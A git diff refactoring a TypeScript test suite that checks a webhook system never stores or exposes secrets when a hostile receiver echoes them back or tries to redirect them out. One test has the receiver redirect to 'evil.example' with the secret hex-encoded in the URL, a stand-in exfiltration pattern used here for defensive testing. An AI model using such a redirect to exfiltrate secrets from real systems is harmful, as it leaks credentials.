@@ -5,7 +5,7 @@
 import { readFileSync } from "node:fs";
 import path from "node:path";
 import { eq, sql } from "drizzle-orm";
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { afterAll, beforeEach, describe, expect, it } from "vitest";
 import { closeDb, getDb } from "@/db/client";
 import { auditEvents, webhookDeliveries, webhookDeliveryAttempts } from "@/db/schema";
 import { createSecret } from "@/lib/dal/secrets";
@@ -13,19 +13,17 @@ import { listDeliveryAttempts } from "@/lib/dal/delivery-log";
 import { createWebhook, listWebhooks } from "@/lib/dal/webhooks";
 import { redeliverDelivery, sendTestDelivery } from "@/lib/jobs/webhook-delivery";
 import type { TWebhookInput } from "@/lib/validation/webhooks";
-import { errorOf, makeRoleTeam, rowsOf, runId, tablesContaining, type TTestTeam, type TTestUser, sentAtOnce, webhookInput } from "../support/fixtures";
+import { errorOf, rowsOf, runId, tablesContaining, sentAtOnce, webhookInput } from "../support/fixtures";
+import { roleTeamCast } from "../support/cast";
 import { hostileForms } from "../support/hostile-forms";
-import { startReceiver, type TReceiver } from "../support/receiver";
+import { receiverFixture } from "../support/receiver";
 
 process.env.WEBHOOK_ALLOWED_HOSTS = "127.0.0.1";
 process.env.WEBHOOK_RETRY_BASE_MS = "30";
 process.env.WEBHOOK_TIMEOUT_MS = "2000";
 
-let owner: TTestUser;
-let admin: TTestUser;
-let editor: TTestUser;
-let team: TTestTeam;
-let rx: TReceiver;
+const { owner, admin, editor, team } = roleTeamCast("wh-hostile");
+const rx = receiverFixture("127.0.0.1");
 
 /** The hostile echo: the secret-carrying header in every form above, plus the request as received. */
 function hostileEcho(header: string) {
@@ -36,13 +34,7 @@ function hostileEcho(header: string) {
   };
 }
 
-beforeAll(async () => {
-  ({ owner, admin, editor, team } = await makeRoleTeam("wh-hostile"));
-  rx = await startReceiver("127.0.0.1");
-});
-
 afterAll(async () => {
-  await rx.close();
   await closeDb();
 });
 
@@ -58,6 +50,9 @@ async function secret(visibility: "masked" | "restricted") {
   const s = await createSecret({ actor: admin.actor, teamSlug: team.slug, name: `HOSTILE_${runId().toUpperCase()}`, value, visibility });
   return { ...s, value };
 }
+/** A webhook, saved by the Admin, that sends secret `s` in its X-K header. */
+const hookCarrying = (s: { id: string; name: string }) =>
+  createWebhook({ actor: admin.actor, teamSlug: team.slug, data: input({ headers: [{ name: "X-K", value: `\${${s.name}}` }], secretIds: [s.id] }) });
 /** Every column of every attempt row of the webhook, as Postgres prints the row. */
 async function storedRows(webhookId: string): Promise<string[]> {
   const db = await getDb();
@@ -106,11 +101,7 @@ describe("a hostile receiver echoing the value in every encoding", () => {
   it("a redelivery of it is withheld too", async () => {
     const s = await secret("restricted");
     rx.respond(hostileEcho("x-k"));
-    const hook = await createWebhook({
-      actor: admin.actor,
-      teamSlug: team.slug,
-      data: input({ headers: [{ name: "X-K", value: `\${${s.name}}` }], secretIds: [s.id] }),
-    });
+    const hook = await hookCarrying(s);
     const first = sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
     sent(await redeliverDelivery({ actor: owner.actor, teamSlug: team.slug, deliveryId: first.deliveryId }));
     expect(rx.requests).toHaveLength(2);
@@ -125,11 +116,7 @@ describe("a hostile receiver echoing the value in every encoding", () => {
       res.writeHead(302, { location: `https://evil.example/${Buffer.from(String(req.headers["x-k"])).toString("hex")}` });
       res.end();
     });
-    const hook = await createWebhook({
-      actor: admin.actor,
-      teamSlug: team.slug,
-      data: input({ headers: [{ name: "X-K", value: `\${${s.name}}` }], secretIds: [s.id] }),
-    });
+    const hook = await hookCarrying(s);
     const r = sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
     expect(r.statusCode).toBe(302);
     expectNoForm(await storedRows(hook.id), s.value);
@@ -151,11 +138,7 @@ describe("Editors and a webhook that carries a Restricted secret", () => {
   it("cannot send a test of it, list its deliveries, or redeliver one; the DTO says so", async () => {
     const s = await secret("restricted");
     rx.respond(hostileEcho("x-k"));
-    const hook = await createWebhook({
-      actor: admin.actor,
-      teamSlug: team.slug,
-      data: input({ headers: [{ name: "X-K", value: `\${${s.name}}` }], secretIds: [s.id] }),
-    });
+    const hook = await hookCarrying(s);
     const masked = await createWebhook({ actor: editor.actor, teamSlug: team.slug, data: input({}) });
     const test = await errorOf(sendTestDelivery({ actor: editor.actor, teamSlug: team.slug, webhookId: hook.id }));
     expect(test.code).toBe("forbidden");
@@ -181,11 +164,7 @@ describe("Editors and a webhook that carries a Restricted secret", () => {
   it("stays hidden from Editors after the Restricted secret is unbound (the attempt carried it)", async () => {
     const s = await secret("restricted");
     rx.respond((_req, res) => res.end("ok"));
-    const hook = await createWebhook({
-      actor: admin.actor,
-      teamSlug: team.slug,
-      data: input({ headers: [{ name: "X-K", value: `\${${s.name}}` }], secretIds: [s.id] }),
-    });
+    const hook = await hookCarrying(s);
     sent(await sendTestDelivery({ actor: admin.actor, teamSlug: team.slug, webhookId: hook.id }));
     const db = await getDb();
     const { webhookSecrets, webhooks } = await import("@/db/schema");
